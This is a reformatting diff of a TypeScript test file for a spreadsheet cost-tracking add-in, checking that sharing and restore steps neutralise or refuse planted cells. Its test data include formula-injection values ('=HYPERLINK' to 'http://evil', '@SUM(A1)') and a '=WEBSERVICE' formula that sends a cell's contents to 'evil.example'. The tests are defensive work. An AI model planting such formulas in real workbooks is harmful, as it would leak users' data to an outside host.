@@ -116,7 +116,10 @@ describe("Prepare for sharing", () => {
     const hostileStep = '=HYPERLINK("http://evil","x")';
     const hostileModel = "@SUM(A1)";
     const gpt4o = DEFAULT_PRICE_TABLE.find("gpt-4o")!;
-    const prices = new LayeredPriceSource([new PriceTable([{ ...gpt4o, model: hostileModel, provider: "+custom" }], "2026-09-23"), DEFAULT_PRICE_TABLE]);
+    const prices = new LayeredPriceSource([
+      new PriceTable([{ ...gpt4o, model: hostileModel, provider: "+custom" }], "2026-09-23"),
+      DEFAULT_PRICE_TABLE,
+    ]);
     const hostileTree = [tree[0], [hostileStep, null, hostileModel, 7000, 1000, 1]];
     const lines = breakdownTable(evaluateCostTree(parseCostTree(hostileTree, prices)));
     const wb = new FakeWorkbook();
@@ -209,9 +212,21 @@ describe("Restore live functions", () => {
   });
 
   it.each([
-    ["a written range beyond the spill", ["Model", "A1", "=AIECON.PRICESASOF()", "", "A1:XFD1048576", "2026-11-23"], /covers 17,179,869,184 cells/],
-    ["a formula without AIECON", ["Model", "B1", '=WEBSERVICE("http://evil.example/"&A1)', "", "", "2026-11-23"], /calls no AIECON function/],
-    ["a range on another sheet", ["Model", "A1", "=AIECON.PRICESASOF()", "", "Data!A1:B2", "2026-11-23"], /is not the block its cell A1 spilled into/],
+    [
+      "a written range beyond the spill",
+      ["Model", "A1", "=AIECON.PRICESASOF()", "", "A1:XFD1048576", "2026-11-23"],
+      /covers 17,179,869,184 cells/,
+    ],
+    [
+      "a formula without AIECON",
+      ["Model", "B1", '=WEBSERVICE("http://evil.example/"&A1)', "", "", "2026-11-23"],
+      /calls no AIECON function/,
+    ],
+    [
+      "a range on another sheet",
+      ["Model", "A1", "=AIECON.PRICESASOF()", "", "Data!A1:B2", "2026-11-23"],
+      /is not the block its cell A1 spilled into/,
+    ],
   ])("refuses a planted row (%s) and changes nothing", async (_, row, problem) => {
     const wb = new FakeWorkbook();
     const m = wb.sheet("Model");
@@ -224,7 +239,12 @@ describe("Restore live functions", () => {
     row.forEach((v, c) => kept.cells.set(kept.key(1, c), { value: v, format: "@" }));
     wb.install();
     await expect(restoreLiveFunctions()).rejects.toThrow(problem);
-    expect([m.at("A1")!.value, m.at("B1")!.value, m.at("B1")!.formula, wb.sheet("Data").at("A1")!.value]).toEqual([0.5, 7, undefined, "keep"]);
+    expect([m.at("A1")!.value, m.at("B1")!.value, m.at("B1")!.formula, wb.sheet("Data").at("A1")!.value]).toEqual([
+      0.5,
+      7,
+      undefined,
+      "keep",
+    ]);
     expect(wb.sheets.map((s) => s.name)).toContain(ORIGINALS_SHEET);
   });
 
